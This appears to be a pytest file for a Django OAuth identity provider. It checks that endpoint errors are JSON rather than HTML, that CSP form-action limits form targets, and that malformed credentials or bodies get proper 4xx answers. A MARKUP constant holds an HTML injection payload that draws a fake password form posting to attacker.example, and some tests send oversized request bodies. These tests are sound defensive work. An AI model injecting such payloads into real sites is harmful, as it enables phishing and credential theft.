"""Token, revocation, introspection and userinfo errors are JSON (RFC 6749 section 5.2).

The attack (issue 10): a form posted from another site to /idp/token/ with a `resource`
holding markup drew a fake password form on the provider's origin, because the 400 came
back as text/html with the value unescaped.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from identity.models import Client as OAuthClient
from tests.identity.test_tokens import _basic, _pkce, code_flow

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("published_apis")]

MARKUP = '"><form action="https://attacker.example/"><input name="password" type="password">'


@pytest.fixture
def svc(client_factory: Any) -> OAuthClient:
    return client_factory(
        "svc", "svc-secret", grant=OAuthClient.GRANT_CLIENT_CREDENTIALS, redirect_uris=[]
    )


def assert_json_error(response: Any, status: int, error: str) -> dict[str, Any]:
    assert response.status_code == status, response.content
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["error"] == error
    return body


@pytest.mark.parametrize("field", ["resource", "scope", "grant_type"])
def test_markup_in_a_token_request_comes_back_as_json(
    client: Client, svc: OAuthClient, field: str
) -> None:
    form = {"grant_type": "client_credentials", "scope": "echo.read", field: MARKUP}
    response = client.post("/idp/token/", form, HTTP_AUTHORIZATION=_basic("svc", "svc-secret"))
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "error" in response.json()


def test_token_endpoint_by_get_is_a_json_405(client: Client) -> None:
    response = client.get("/idp/token/?grant_type=client_credentials&resource=" + MARKUP)
    assert_json_error(response, 405, "invalid_request")


def test_wrong_client_secret_is_json_invalid_client(client: Client, svc: OAuthClient) -> None:
    response = client.post(
        "/idp/token/",
        {"grant_type": "client_credentials"},
        HTTP_AUTHORIZATION=_basic("svc", "wrong"),
    )
    assert_json_error(response, 401, "invalid_client")


def test_revocation_errors_are_json(client: Client, svc: OAuthClient) -> None:
    response = client.post(
        "/idp/revoke/", {"token": "x"}, HTTP_AUTHORIZATION=_basic("svc", "wrong")
    )
    assert_json_error(response, 401, "invalid_client")
    assert_json_error(client.get("/idp/revoke/?token=x"), 405, "invalid_request")


def test_a_revocation_is_an_empty_200_that_is_no_html_page(
    client: Client, svc: OAuthClient
) -> None:
    """RFC 7009 2.2: 200 and nothing to read, for a token revoked and for one the provider
    does not know alike; DOT answered with an empty `text/html` body."""
    basic = _basic("svc", "svc-secret")
    form = {"grant_type": "client_credentials", "scope": "echo.read"}
    token = client.post("/idp/token/", form, HTTP_AUTHORIZATION=basic).json()["access_token"]
    for revoked in (token, "not-a-token-of-this-provider"):
        response = client.post("/idp/revoke/", {"token": revoked}, HTTP_AUTHORIZATION=basic)
        assert response.status_code == 200
        assert response.content == b""
        assert "Content-Type" not in response
        assert response["Cache-Control"] == "no-store"
    response = client.post("/idp/revoke/", {}, HTTP_AUTHORIZATION=basic)
    assert_json_error(response, 400, "invalid_request")  # no token: still JSON


def test_introspection_errors_are_json(client: Client, svc: OAuthClient) -> None:
    response = client.post(
        "/idp/introspect/", {"token": "x"}, HTTP_AUTHORIZATION=_basic("svc", "wrong")
    )
    assert_json_error(response, 401, "invalid_client")
    response = client.post("/idp/introspect/", {}, HTTP_AUTHORIZATION=_basic("svc", "svc-secret"))
    assert_json_error(response, 400, "invalid_request")


def test_userinfo_with_a_client_credentials_token_is_invalid_token(
    client: Client, svc: OAuthClient
) -> None:
    token = client.post(
        "/idp/token/",
        {"grant_type": "client_credentials", "scope": "openid echo.read"},
        HTTP_AUTHORIZATION=_basic("svc", "svc-secret"),
    ).json()["access_token"]
    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert_json_error(response, 401, "invalid_token")
    assert response["WWW-Authenticate"].startswith('Bearer error="invalid_token"')


def test_userinfo_with_a_bad_token_is_json(client: Client) -> None:
    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION="Bearer nope")
    assert_json_error(response, 401, "invalid_token")


def test_userinfo_still_answers_for_a_user_token(client: Client, signed_in: Any, app: Any) -> None:
    tokens = code_flow(client, app)
    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION=f"Bearer {tokens['access_token']}")
    assert response.status_code == 200 and response.json()["preferred_username"] == "grace"


def test_userinfo_takes_an_apis_token_and_answers_only_what_its_scopes_allow(
    client: Client, signed_in: Any, app: Any
) -> None:
    """A token for api://echo with openid (a design choice, as Auth0 and Keycloak: the client
    holds one token); without profile or email it tells who (sub) and nothing more."""
    import jwt

    token = code_flow(client, app, scope="openid echo.read")["access_token"]
    assert jwt.decode(token, options={"verify_signature": False})["aud"] == "api://echo"
    response = client.get("/idp/userinfo/", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 200
    assert response.json() == {"sub": str(signed_in.pk)}


def test_pages_allow_forms_to_post_only_to_this_site(client: Client) -> None:
    csp = client.get("/idp/").headers["Content-Security-Policy"]
    assert "form-action 'self'" in csp


def test_consent_page_allows_the_redirect_to_its_client(
    client: Client, signed_in: Any, app: Any
) -> None:
    _, challenge = _pkce()
    page = client.get(
        "/idp/authorize/?response_type=code&client_id=console&redirect_uri="
        "http://127.0.0.1:9999/cb&scope=openid&code_challenge_method=S256&code_challenge="
        + challenge
    )
    assert page.status_code == 200 and b"Allow console?" in page.content
    assert "form-action 'self' http://127.0.0.1:9999;" in page["Content-Security-Policy"] + ";"


@pytest.mark.parametrize(
    "redirect_uri, allowed",
    [("http://127.0.0.1:9999/cb", True), ("https://attacker.example/cb", False)],
)
def test_login_page_allows_only_the_registered_redirect_it_leads_to(
    client: Client, app: Any, redirect_uri: str, allowed: bool
) -> None:
    from urllib.parse import urlencode

    next_url = "/idp/authorize/?" + urlencode(
        {"client_id": "console", "redirect_uri": redirect_uri}
    )
    csp = client.get("/idp/login/?" + urlencode({"next": next_url}))["Content-Security-Policy"]
    form_action = next(d for d in csp.split("; ") if d.startswith("form-action"))
    assert form_action.startswith("form-action 'self'")
    origin = redirect_uri.rsplit("/", 1)[0]
    assert (origin in form_action) is allowed


def _form_action(response: Any) -> str:
    csp = response["Content-Security-Policy"]
    return next(d for d in csp.split("; ") if d.startswith("form-action"))


def test_login_page_shown_again_still_allows_the_clients_redirect(
    client: Client, app: Any, user_factory: Any
) -> None:
    """After a wrong password the page is drawn again; its form's next POST still ends, through
    /idp/authorize/, at the client's redirect URI, which Chromium checks against this page's
    form-action (a refused redirect left the user on a blank error page)."""
    from urllib.parse import urlencode

    user_factory("lin")
    next_url = "/idp/authorize/?" + urlencode(
        {"client_id": "console", "redirect_uri": "http://127.0.0.1:9999/cb"}
    )
    again = client.post("/idp/login/", {"username": "lin", "password": "wrong", "next": next_url})
    assert again.status_code == 400
    assert "http://127.0.0.1:9999" in _form_action(again)
    stranger = client.post(
        "/idp/login/",
        {
            "username": "lin",
            "password": "wrong",
            "next": next_url.replace("127.0.0.1:9999", "evil.example"),
        },
    )
    assert "evil.example" not in _form_action(stranger)


@pytest.mark.parametrize("path", ["/idp/token/", "/idp/revoke/", "/idp/introspect/"])
def test_basic_credentials_that_are_not_base64_text_are_invalid_client_not_a_server_error(
    client: Client, svc: OAuthClient, path: str
) -> None:
    # Anyone could make the provider answer 500: base64.b64decode raises ValueError (not
    # binascii.Error) on non-ASCII text, before the client was even looked up.
    for header in ("Basic \u00e9\u00e9\u00e9\u00e9", "Basic c3Zj\u00e9OnN2Yy1zZWNyZXQ="):
        response = client.post(
            path, {"grant_type": "client_credentials", "token": "x"}, HTTP_AUTHORIZATION=header
        )
        assert_json_error(response, 401, "invalid_client")


def test_a_grant_type_the_provider_does_not_offer_is_unsupported_not_a_server_error(
    client: Client, svc: OAuthClient
) -> None:
    # DOT's device-code grant read request.POST["device_code"]: a missing one was a 500.
    response = client.post(
        "/idp/token/",
        {"grant_type": "urn:ietf:params:oauth:grant-type:device_code"},
        HTTP_AUTHORIZATION=_basic("svc", "svc-secret"),
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"] in ("unsupported_grant_type", "invalid_request")


@pytest.mark.parametrize("path", ["/idp/token/", "/idp/revoke/", "/idp/introspect/"])
@pytest.mark.parametrize(
    "body",
    [
        "grant_type=client_credentials&scope="
        + "x" * 3_000_000,  # past DATA_UPLOAD_MAX_MEMORY_SIZE
        "&".join(f"f{i}=1" for i in range(1_500)),  # past DATA_UPLOAD_MAX_NUMBER_FIELDS
        "grant_type=client_credentials&scope=a%00b",  # the NUL middleware's text/plain 400
    ],
    ids=["too-big", "too-many-fields", "nul"],
)
def test_a_form_refused_before_the_view_is_a_json_invalid_request(
    client: Client, svc: OAuthClient, path: str, body: str
) -> None:
    """Refused as the portal's middleware reads the form: the 400 was Django's HTML page
    (too big, too many fields) or text/plain (NUL), not RFC 6749's JSON."""
    response = client.post(
        path,
        body,
        content_type="application/x-www-form-urlencoded",
        HTTP_AUTHORIZATION=_basic("svc", "svc-secret"),
    )
    assert_json_error(response, 400, "invalid_request")
    assert response["Cache-Control"] == "no-store"


CC = {"grant_type": "client_credentials", "scope": "echo.read"}


@pytest.mark.parametrize("path", ["/idp/token/", "/idp/revoke/", "/idp/introspect/"])
def test_basic_and_a_body_secret_together_are_invalid_request(
    client: Client, svc: OAuthClient, path: str
) -> None:
    """RFC 6749 2.3: one authentication method a request. With both, a wrong Basic secret
    was passed over for the body's and a token came back."""
    form = {**CC, "token": "x", "client_id": "svc", "client_secret": "svc-secret"}
    for secret in ("svc-secret", "wrong"):
        response = client.post(path, form, HTTP_AUTHORIZATION=_basic("svc", secret))
        assert_json_error(response, 400, "invalid_request")


def test_a_body_client_id_other_than_basic_is_invalid_request_not_a_server_error(
    client: Client, svc: OAuthClient, client_factory: Any
) -> None:
    client_factory("svc2", "svc2-secret", grant=OAuthClient.GRANT_CLIENT_CREDENTIALS,
                   redirect_uris=[])  # fmt: skip
    response = client.post(
        "/idp/token/", {**CC, "client_id": "svc2"}, HTTP_AUTHORIZATION=_basic("svc", "svc-secret")
    )
    assert_json_error(response, 400, "invalid_request")  # oauthlib: server_error


def test_wrong_basic_credentials_are_answered_with_a_basic_challenge(
    client: Client, svc: OAuthClient
) -> None:
    """RFC 6749 5.2: the WWW-Authenticate of the scheme the client used (it said Bearer)."""
    response = client.post("/idp/token/", CC, HTTP_AUTHORIZATION=_basic("svc", "wrong"))
    assert_json_error(response, 401, "invalid_client")
    assert response["WWW-Authenticate"].startswith("Basic ")


def test_the_basic_scheme_name_is_case_insensitive(client: Client, svc: OAuthClient) -> None:
    """RFC 9110 11.1: 'basic' is 'Basic'; it was invalid_client."""
    auth = _basic("svc", "svc-secret").replace("Basic", "basic")
    response = client.post("/idp/token/", CC, HTTP_AUTHORIZATION=auth)
    assert response.status_code == 200, response.content
